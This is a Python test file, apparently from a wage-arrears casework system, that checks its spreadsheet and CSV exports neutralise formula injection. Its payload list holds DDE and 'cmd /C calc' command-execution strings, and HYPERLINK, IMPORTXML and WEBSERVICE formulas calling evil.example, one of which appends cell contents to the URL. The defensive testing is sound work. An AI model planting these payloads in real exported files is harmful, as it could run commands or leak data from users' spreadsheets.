"""R31: what is taken out as a table never runs: no cell is a formula, no field begins like one, numbers stay numbers.

The payloads stand in every free text that reaches a workbook or a CSV file: names, papers, accounts, acts, members of a
figure, ids of a list, the body of an answer.
"""

from __future__ import annotations

import csv
import io
import random
import shutil
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from casework.handling import PaidWorker
from casework.people import Actor
from casework.reply import Letter, ReplyKind
from connectors import files
from connectors.answer_files import form
from services.cases import handling
from services.linkage.resolve_rows import COLUMNS
from services.linkage.resolving import resolve
from services.money import ledger, ledger_book
from services.money.ledger_book import export_ledger, roster_template
from services.months.month_book import month_book
from services.people import auditing
from services.people.auditing import export_log
from tests.conftest import NOW
from tests.libreoffice import SOFFICE, converted
from tests.promises.districts import District
from tests.promises.proofs import Proof, proof, times
from tests.services.office import CHANNELS
from tests.services.work import TODAY, Work
from warehouse import audit
from warehouse.engine import open_warehouse
from warehouse.models import AccountRow, ChannelRow, LedgerWorkerRow, PaymentRow
from warehouse.queries.audit_log import Asked
from warehouse.statistics.definitions import FIGURES
from warehouse.statistics.month import MonthFigures

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", "", "", "\t", "\r", "\n", "\x00", " ", "　", "\u200b", "\ufeff", "\x00\x00", " \x00", "\r\n", "\xa0")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://evil.example/?"&A1,"看")',
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    "2+5+cmd|' /C calc'!A0",
    "A1",
    '"x",=1+1',
    "1\n=1+1",
    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
UNSEEN = "\x00\t\r\n \u3000\u200b\ufeff\xa0"


def payloads(count: int, seed: int) -> list[str]:
    """Texts that a spreadsheet could take for a formula, each once."""
    chance, found = random.Random(seed), dict[str, None]()
    every = [f"{before}{sign}{body}" for before in BEFORE for sign in SIGNS for body in BODIES]
    chance.shuffle(every)
    for one in every:
        found[one] = None
    return list(found)[:count]


@pytest.fixture
def district(sqlite_template: Path, tmp_path: Path) -> Iterator[District]:
    """On SQLite alone: the payloads hold zero bytes, which PostgreSQL's texts cannot."""
    shutil.copy(sqlite_template, tmp_path / "arrears.db")
    store = open_warehouse(f"sqlite:///{tmp_path / 'arrears.db'}")
    with store.write() as session:
        session.add_all(ChannelRow(name=name, answers=name != "walk_in") for name in CHANNELS)
    yield District(store, NOW)
    store.close()


def _ledger(district: District, said: Sequence[str]) -> bytes:
    """The workbook of a ledger whose workers, identity numbers, phones and proofs are payloads."""
    work = Work(district)
    lines = "\n".join(f"工人{n}\t\t1380{n:07d}\t2026-08\t{1000 + n}" for n in range(len(said)))
    work.do(ledger.add_roster, content=f"姓名\t身份证号\t电话\t月份\t欠薪金额\n{lines}".encode())
    paid = [PaidWorker("工人0", Decimal(100))]
    work.do(handling.record_payment, paid_on=TODAY, workers=1, amount=Decimal(100), proof="bank_voucher", lines=paid)
    with district.store.write() as session:
        for row, one in zip(session.scalars(select(LedgerWorkerRow)), said, strict=True):
            row.name = row.id_no = row.phone = one
        for payment in session.scalars(select(PaymentRow)):
            payment.proof_ref = said[0]
    return export_ledger(district.store, case_id=work.id, reason="check_payment", plain=True, actor=work.lead, at=NOW)


def _log(district: District, said: Sequence[str]) -> bytes:
    """The audit log, of accounts whose names are payloads and of acts and subjects that are."""
    with district.store.write() as session:
        for n, one in enumerate(said):
            moment = {"password_set_at": NOW, "created_at": NOW}
            session.add(AccountRow(id=f"acc_{n}", login=f"l{n}", name=one[:80], password_hash="none", **moment))
        session.flush()
        for n, one in enumerate(said):
            audit.record(session, by=f"acc_{n}", act=one[:40], subject=one[:64], at=NOW, details={one: one})
            audit.record(session, by=one[:64], act="x", subject=f"acc_{n}", at=NOW)
    return export_log(district.store, Asked(), purpose="核对", actor=_auditor(district), at=NOW)


def _auditor(district: District) -> Actor:
    return next(actor for role, actor in district.roles.items() if role.value == "audit_admin")


def _month(said: Sequence[str]) -> bytes:
    """The workbook of a month whose channels, natures, outcomes and kinds are payloads."""
    cells = {(figure.name, "total", ""): len(said) for figure in FIGURES}
    for figure in FIGURES:
        for dimension in ("channel", "nature", "outcome"):
            cells |= {(figure.name, dimension, one): 1 for one in said}
    balanced = {"received": 1, "cases_opened": 1, "concluded": 1, "pending_start": 1, "pending_end": 1}
    cells |= {("documents", "kind", one): balanced["received"] for one in said}
    return month_book(MonthFigures("2026-10", cells))


def _list(folder: Path, said: Sequence[str]) -> bytes:
    """The answer of `arrears resolve` to a file whose ids and texts are payloads."""
    incoming, outgoing = folder / "in.csv", folder / "out.csv"
    with incoming.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, COLUMNS)
        writer.writeheader()
        for n, one in enumerate(said):
            row = {"complaint_id": one.replace("\x00", ""), "channel": "petition", "submitted_at": "2026-10-01"}
            writer.writerow(
                row
                | {"employer_name": f"{one} 公司{n}".replace("\x00", ""), "complainant_name": one.replace("\x00", "")}
            )
    resolve(incoming, outgoing)
    return outgoing.read_bytes()


def _answers(said: Sequence[str]) -> list[bytes]:
    """Forms of answers to a platform, whose body and keys are payloads."""
    return [
        form(Letter(one, "national_clue", one, next(iter(ReplyKind)), one, datetime(2026, 11, 20, tzinfo=UTC)))
        for one in said[:40]
    ]


def look_at_book(body: bytes, made: Proof, *, texts_inert: bool) -> list[str]:
    """Cells of a workbook that are formulas, links, or, where asked, texts that begin like one."""
    wrong = []
    for sheet in openpyxl.load_workbook(io.BytesIO(body)):
        for row in sheet.iter_rows():
            for cell in row:
                made.count("cells")
                made.count("numbers", cell.data_type == "n" and cell.value is not None)
                if cell.data_type == "f" or cell.hyperlink is not None:
                    wrong.append(f"{sheet.title} {cell.coordinate}: a formula or a link")
                if texts_inert and isinstance(cell.value, str) and _begins_one(cell.value):
                    wrong.append(f"{sheet.title} {cell.coordinate}: begins like one")
    return wrong


def _begins_one(text: str) -> bool:
    return text.startswith(TRIGGERS) or text.lstrip(UNSEEN).startswith(SIGNS)


def look_at_csv(body: bytes, made: Proof) -> list[str]:
    """Fields of a CSV file that begin like a formula."""
    wrong = []
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
        for cell in row:
            made.count("fields")
            if _begins_one(cell):
                wrong.append(repr(cell[:40]))
    return wrong


def _in_office(folder: Path, books: dict[str, bytes], made: Proof) -> list[str]:
    """The same workbooks opened by LibreOffice, where it is installed, and saved again."""
    wrong = []
    made.counted["opened by LibreOffice"] = 0
    for name, body in books.items() if SOFFICE else ():
        (folder / f"{name}.xlsx").write_bytes(body)
        once = converted(folder / f"{name}.xlsx", "ods", folder / "again")
        twice = converted(once, "xlsx", folder / "twice")
        made.count("opened by LibreOffice")
        wrong += look_at_book(twice.read_bytes(), made, texts_inert=False)
    return wrong


def _money_is_numbers(body: bytes) -> list[str]:
    """Sums of the ledger that are no numbers."""
    sheet: Any = openpyxl.load_workbook(io.BytesIO(body))["欠薪台账"]
    heads = [cell.value for cell in sheet[1]]
    places = [place for place, head in enumerate(heads) if head in ("欠薪金额", "应付", "已付", "尚欠")]
    cells = [row[place] for row in sheet.iter_rows(min_row=2) for place in places]
    return [cell.coordinate for cell in cells if cell.data_type != "n" or cell.value is None]


def taken_out(district: District, folder: Path, said: Sequence[str], made: Proof) -> list[str]:
    """Every export there is, with these payloads in it. Returns what could run."""
    book, log, month, listed = _ledger(district, said), _log(district, said), _month(said), _list(folder, said)
    wrong = look_at_book(book, made, texts_inert=True) + _money_is_numbers(book)
    wrong += look_at_csv(log, made) + look_at_csv(listed, made)
    for body in (month, roster_template(), *_answers(said)):
        wrong += look_at_book(body, made, texts_inert=False)
    made.count("payloads", len(said))
    return wrong + _in_office(folder, {"ledger": book, "month": month}, made)


def test_r31(district: District, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    said = payloads(times(500), seed=31)
    enough = {"opened by LibreOffice": 2 if SOFFICE else 0}
    enough |= {"payloads": times(500), "cells": times(20_000), "fields": times(10_000), "numbers": times(3_000)}
    with proof("R31", seed=31, enough=enough) as made:
        assert taken_out(district, tmp_path, said, made) == []
        unproven = Proof("R31", 31, {})
        with monkeypatch.context() as patched:
            for module in (files, auditing, ledger_book):
                patched.setattr(module, "inert", lambda cell: cell)
            log = export_log(district.store, Asked(), purpose="核对", actor=_auditor(district), at=NOW)
            made.planted("a text stands in a CSV file as it is", caught=bool(look_at_csv(log, unproven)))
        made.planted(
            "a text is written as a formula", caught=bool(look_at_book(_running(), unproven, texts_inert=False))
        )


def _running() -> bytes:
    """A workbook as it is written when nobody thinks of formulas."""
    book, stream = openpyxl.Workbook(), io.BytesIO()
    assert book.active is not None
    book.active["A1"] = "=1+1"
    book.save(stream)
    return stream.getvalue()
